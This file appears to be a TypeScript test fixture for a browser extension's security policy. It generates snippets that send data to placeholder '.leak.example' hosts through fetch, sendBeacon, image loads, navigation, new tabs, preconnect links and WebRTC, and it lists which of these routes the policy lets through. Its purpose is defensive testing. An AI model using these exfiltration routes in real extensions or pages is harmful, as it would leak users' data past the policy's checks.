/** Hosts nobody could reach, one a leak, so that each is told apart. */
export const host = (leak: string) => `${leak}.leak.example`;

/** Each leak, as code; the page's hash says which one is to happen. */
export function leakingCode(stunPort: number): string {
  const leaks: Record<string, string> = {
    fetch: `void fetch('http://${host('fetch')}/x').catch(() => 0);`,
    beacon: `navigator.sendBeacon('http://${host('beacon')}/x', 'words');`,
    image: `new Image().src = 'http://${host('image')}/x.png';`,
    leave: `location.href = 'http://${host('leave')}/?words';`,
    tab: `chrome.tabs.create({ url: 'http://${host('tab')}/?words' });`,
    ahead: `const link = document.createElement('link');
      link.rel = 'preconnect'; link.href = 'https://${host('ahead')}/'; document.head.append(link);`,
    webrtc: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] });
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));`,
  };
  return Object.entries(leaks)
    .map(([name, code]) => `if (location.hash === '#${name}') { ${code} }`)
    .join('\n');
}

/** What the policy refuses. */
export const refusedByPolicy = ['fetch', 'beacon', 'image'];

/**
 * What it lets pass (measured on Chromium 156), so that it rests on the bundle scan alone. A
 * frame or a form is refused, but the host is connected to ahead of the refusal: the same.
 */
export const notRefused = ['leave', 'tab', 'ahead'];
